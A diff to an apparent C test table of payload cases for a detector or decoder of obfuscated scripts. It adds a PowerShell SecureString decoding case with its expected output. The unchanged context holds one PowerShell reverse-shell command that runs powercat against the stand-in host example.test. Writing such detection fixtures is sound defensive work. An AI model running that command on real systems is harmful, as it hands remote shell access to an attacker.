@@ -466,6 +466,17 @@ static const payload_case cases[] = {
      "powershell -Exec Bypass . C:\\t\\nc.ps1;powercat -c example.test -p 80 -e cmd", ""},
     {"no: name of a variable", "Function Base64Decode(ByVal base64String)", ""},
     {"no: call with a variable", "exec(b64decode(payload))", ""},
+    {"secure string",
+     "ConvertTo-SecureString "
+     "'76492d1116743f0423413b16050a5345MgB8AEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBBAEEAQQBB"
+     "AEEAPQA9AHwAMAAxADIAMwA0ADUANgA3ADgAOQBhAGIAYwBkAGUAZgAwADEAMgAzADQANQA2ADcAOAA5AGEAYgBjAGQAZ"
+     "QBmADAAMQAyADMANAA1ADYANwA4ADkAYQBiAGMAZABlAGYAMAAxADIAMwA0ADUANgA3ADgAOQBhAGIAYwBkAGUAZgAwAD"
+     "EAMgAzADQANQA2ADcAOAA5AGEAYgBjAGQAZQBmADAAMQAyADMANAA1ADYANwA4ADkAYQBiAGMAZABlAGYAMAAxADIAMwA"
+     "0ADUANgA3ADgAOQBhAGIAYwBkAGUAZgAwADEAMgAzADQANQA2ADcAOAA5AGEAYgBjAGQAZQBmAA==' -k (1..16)",
+     "text (securestring > utf-16le) "
+     "2|AAAAAAAAAAAAAAAAAAAAAA==|"
+     "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abc"
+     "def0123456789abcdef0123456789abcdef\012"},
 };
 
 static void note(void *context, const kk_payload *p)
